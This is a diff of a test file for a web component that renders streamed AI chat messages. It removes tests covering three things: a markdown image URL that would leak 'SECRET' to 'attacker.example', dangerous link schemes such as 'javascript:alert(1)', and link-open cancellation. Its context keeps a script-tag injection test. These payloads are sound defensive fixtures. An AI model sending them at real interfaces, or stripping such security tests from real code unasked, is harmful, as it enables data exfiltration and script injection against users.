@@ -186,23 +186,6 @@ describe('<ai-stream-message>', () => {
     expect(content(element).textContent).to.contain('<script>alert(1)</script>');
   });
 
-  it('asks for no image, and shows its words instead', async () => {
-    const element = await message();
-    element.content = '![a secret](https://attacker.example/p.png?q=SECRET)';
-    await element.settled;
-    expect(content(element).querySelector('img')).to.equal(null);
-    expect(content(element).textContent!.trim()).to.equal('a secret');
-  });
-
-  it('gives no address to a link whose scheme is not for the web', async () => {
-    const element = await message();
-    element.content =
-      '[a](javascript:alert(1)) [b](data:text/html,x) [c](vscode://x) [d](mailto:a@b.example)';
-    await element.settled;
-    const addresses = [...content(element).querySelectorAll('a')].map((link) => link.getAttribute('href'));
-    expect(addresses.filter(Boolean)).to.deep.equal(['mailto:a@b.example']);
-  });
-
   it('is as high after its blocks have settled as before', async () => {
     const element = await message();
     element.append('A short answer.\n\n- one\n- two\n');
@@ -214,16 +197,6 @@ describe('<ai-stream-message>', () => {
       expect(element.offsetHeight, `frame ${frame}`).to.equal(height);
       await new Promise((resolve) => requestAnimationFrame(resolve));
     }
-  });
-
-  it('lets the page keep a link from opening', async () => {
-    const element = await message();
-    element.content = '[go](https://example.com/x)';
-    await element.settled;
-    const opened = nextEvent(element, 'link_open');
-    element.addEventListener('link_open', (event) => event.preventDefault());
-    content(element).querySelector('a')!.click();
-    expect((await opened).detail.url).to.equal('https://example.com/x');
   });
 
   it('shows parts in order, and grows the last one', async () => {
